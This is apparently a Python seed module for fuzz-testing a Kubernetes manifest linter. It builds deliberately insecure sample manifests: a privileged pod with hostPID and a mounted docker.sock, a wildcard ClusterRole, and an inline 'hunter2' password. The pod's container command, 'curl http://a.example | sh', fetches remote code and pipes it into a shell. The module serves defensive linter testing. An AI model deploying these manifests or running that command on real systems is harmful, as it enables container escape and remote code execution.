"""What mutations start from: the built-in rules, their examples, hostile shapes, and files that speak of one another.

Where KUBELINT_CORPUS names a folder of real manifests, those up to 20 kB are seeds, too.
"""

from __future__ import annotations

import os
from functools import cache
from pathlib import Path
from typing import Any

from kubelint_compliance.yamltree import Document, parse
from tests.fuzz.mutate import copied
from tests.hostile import shapes
from tests.hostile.leaks import FORMS

ROOT = Path(__file__).resolve().parents[2]
_LARGEST = 20_000

KUSTOMIZATION = """\
apiVersion: kustomize.config.k8s.io/v1beta1
kind: Kustomization
namespace: shop
namePrefix: a-
resources: [a.yaml, ../base, crd.yaml]
images: [{name: nginx, newTag: "1.2", digest: ""}]
commonLabels: {app: a}
labels: [{pairs: {a: b}, includeSelectors: true}]
patches:
- path: patch.yaml
  target: {kind: Deployment, name: web}
- target: {kind: Pod}
  patch: |-
    - {op: replace, path: /spec/hostPID, value: true}
    - {op: add, path: /metadata/labels/a~1b, value: c}
- patch: "{apiVersion: v1, kind: Pod, metadata: {name: a}, spec: {hostNetwork: true}}"
patchesStrategicMerge: [patch.yaml, "{kind: Pod}"]
patchesJson6902: [{target: {version: v1, kind: Pod, name: a}, path: patch.json}]
configMapGenerator: [{name: c, literals: [a=b], files: [a.txt]}]
secretGenerator: [{name: s, literals: [password=hunter2], envs: [.env]}]
components: [../component]
replicas: [{name: web, count: 3}]
generators: [g.yaml]
helmCharts: [{name: a, repo: "https://a.example", valuesInline: {a: {b: c}}}]
"""
CHART = "apiVersion: v2\nname: a\nversion: 0.1.0\ndependencies: [{name: b, version: '1', repository: 'https://a.example'}]\n"
POD = """\
apiVersion: v1
kind: Pod
metadata: {name: a, namespace: shop, labels: {app: a}, annotations: {a/b: "1"}}
spec:
  hostPID: true
  containers:
  - name: app
    image: nginx:latest
    command: [sh, -c, "curl http://a.example | sh"]
    env: [{name: A, value: b}, {name: DB_PASSWORD, valueFrom: {secretKeyRef: {name: s, key: k}}}]
    envFrom: [{secretRef: {name: s}}]
    ports: [{containerPort: 80, hostPort: 80, name: http}]
    resources: {limits: {cpu: 100m, memory: 1Gi}, requests: {cpu: 0.2}}
    securityContext: {privileged: true, capabilities: {add: [SYS_ADMIN], drop: [ALL]}, runAsUser: 0}
    livenessProbe: {httpGet: {path: /, port: http, httpHeaders: [{name: A, value: b}]}}
    volumeMounts: [{name: v, mountPath: /var/run/docker.sock, subPath: a}]
  volumes: [{name: v, hostPath: {path: /var/run/docker.sock, type: Socket}}, {name: c, configMap: {name: c}}]
  tolerations: [{operator: Exists}]
  topologySpreadConstraints: [{maxSkew: 1, topologyKey: a, whenUnsatisfiable: DoNotSchedule, labelSelector: {}}]
"""
LIST = f"apiVersion: v1\nkind: List\nitems:\n- {POD.replace(chr(10), chr(10) + '  ').rstrip()}\n- {{apiVersion: v1, kind: ConfigMap, metadata: {{name: c}}}}\n"
CRD = """\
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: carts.shop.example}
spec:
  group: shop.example
  scope: Namespaced
  names: {kind: Cart, plural: carts, singular: cart, shortNames: [c]}
  conversion: {strategy: None}
  versions:
  - name: v1
    served: true
    storage: true
    deprecated: true
    subresources: {status: {}, scale: {specReplicasPath: .spec.n, statusReplicasPath: .status.n}}
    additionalPrinterColumns: [{name: N, type: integer, jsonPath: .spec.n}]
    schema:
      openAPIV3Schema:
        type: object
        required: [spec]
        properties:
          spec:
            type: object
            x-kubernetes-validations:
            - {rule: "self.n < 5 || has(self.s)", message: too many, fieldPath: .n, reason: FieldValueInvalid}
            - {rule: "self.l.all(x, x.matches('^a+$'))", messageExpression: "'no ' + self.s"}
            - {rule: "self.s == oldSelf.s", optionalOldSelf: false}
            properties:
              n: {type: integer, minimum: 0, maximum: 10, multipleOf: 2, default: 2, format: int32}
              s: {type: string, pattern: "^[a-z]+$", maxLength: 5, enum: [a, b, c]}
              l: {type: array, maxItems: 5, items: {type: string, maxLength: 5}, x-kubernetes-list-type: set}
              m: {type: object, additionalProperties: {type: string}, maxProperties: 2}
              i: {x-kubernetes-int-or-string: true, anyOf: [{type: integer}, {type: string}]}
              e: {type: object, x-kubernetes-embedded-resource: true, x-kubernetes-preserve-unknown-fields: true}
              o: {type: object, oneOf: [{required: [a]}, {not: {required: [b]}}], properties: {a: {}, b: {nullable: true, type: string}}}
              k: {type: array, x-kubernetes-list-type: map, x-kubernetes-list-map-keys: [name], items: {type: object, required: [name], properties: {name: {type: string}}}}
"""
CART = """\
apiVersion: shop.example/v1
kind: Cart
metadata: {name: a}
spec: {n: 11, s: toolong1, l: [a, b, a], m: {a: b}, i: 5, e: {apiVersion: v1, kind: Pod}, o: {b: null}, k: [{name: a}, {name: a}], zz: 1}
"""
PATCH = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec: {template: {spec: {containers: [{name: app, image: nginx}], $patch: merge}}}\n"
JSON_PATCH = '[{"op": "replace", "path": "/spec/hostPID", "value": true}, {"op": "remove", "path": "/metadata"}]\n'
TEMPLATE = (
    "{{- if .Values.a }}\napiVersion: v1\nkind: Pod\nmetadata:\n  name: {{ .Release.Name }}\nspec: {}\n{{- end }}\n"
)
RENDERED = "---\n# Source: a/templates/pod.yaml\n" + POD
ASSERTION = "apiVersion: kuttl.dev/v1beta1\nkind: TestStep\napply: [a.yaml]\nassert: [b.yaml]\nerror: [c.yaml]\n"
ENVELOPE = "apiVersion: template.openshift.io/v1\nkind: Template\nmetadata: {name: a}\nparameters: [{name: A, value: b}]\nobjects:\n- {apiVersion: v1, kind: Secret, metadata: {name: '${A}'}, stringData: {a: b}}\n- {apiVersion: v1, kind: Pod, metadata: {name: a}}\n"
CRONJOB = "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: a}\nspec: {schedule: '*/5 0 31 2 *', timeZone: Europe/Berlin, jobTemplate: {spec: {template: {spec: {containers: [{name: a, image: a}]}}}}}\n"
RBAC = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: a}\nrules: [{apiGroups: ['*'], resources: ['*'], verbs: ['*']}, {nonResourceURLs: ['*'], verbs: [get]}]\naggregationRule: {clusterRoleSelectors: [{matchLabels: {a: b}}]}\n"
POLICY = "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: a}\nspec: {podSelector: {}, policyTypes: [Ingress], ingress: [{from: [{ipBlock: {cidr: 0.0.0.0/0, except: [10.0.0.0/8]}}], ports: [{port: 1, endPort: 5}]}]}\n"
RESOURCE_SET = "apiVersion: addons.cluster.x-k8s.io/v1beta1\nkind: ClusterResourceSet\nmetadata: {name: a}\nspec: {clusterSelector: {}, resources: [{kind: Secret, name: s}, {kind: ConfigMap, name: c}]}\n"
OWN = (
    *(KUSTOMIZATION, CHART, POD, LIST, CRD, CART, PATCH, JSON_PATCH, TEMPLATE, RENDERED, ASSERTION, ENVELOPE, CRONJOB),
    *(RBAC, POLICY, RESOURCE_SET),
)


def values_of(text: str) -> list[Any]:
    """Return the plain values of the documents that can be read."""
    return [copied(part.value) for part in parse(text) if isinstance(part, Document)]


@cache
def rule_files() -> tuple[str, ...]:
    """The built-in rules."""
    return tuple(
        path.read_text() for path in sorted((ROOT / "rules").glob("*/*.yaml")) if path.parent.name != "frameworks"
    )


@cache
def rules() -> tuple[dict[str, Any], ...]:
    """The same as values."""
    return tuple(values_of(text)[0] for text in rule_files())


@cache
def manifests() -> tuple[str, ...]:
    """Texts of manifests: our own, the rules' examples, the hostile ones, and real ones where there are any."""
    examples = [
        entry if isinstance(entry, str) else entry["manifest"]
        for rule in rules()
        for outcome in ("fail", "pass")
        for entry in rule["examples"][outcome]
    ]
    made = [make(3) for _, make in sorted(shapes.SHAPES.items())]
    return (*OWN * 8, *FORMS.values(), *made, *examples, *_real())


def _real() -> list[str]:
    folder = os.environ.get("KUBELINT_CORPUS")
    if not folder:
        return []
    paths = (
        path for path in sorted(Path(folder).rglob("*.yaml")) if path.is_file() and path.stat().st_size <= _LARGEST
    )
    return [path.read_text(encoding="utf-8", errors="replace") for path in paths]


@cache
def values(index: int) -> tuple[Any, ...]:
    """Return the values of one of the manifests; where there are none, an empty table."""
    return tuple(values_of(manifests()[index])) or ({},)
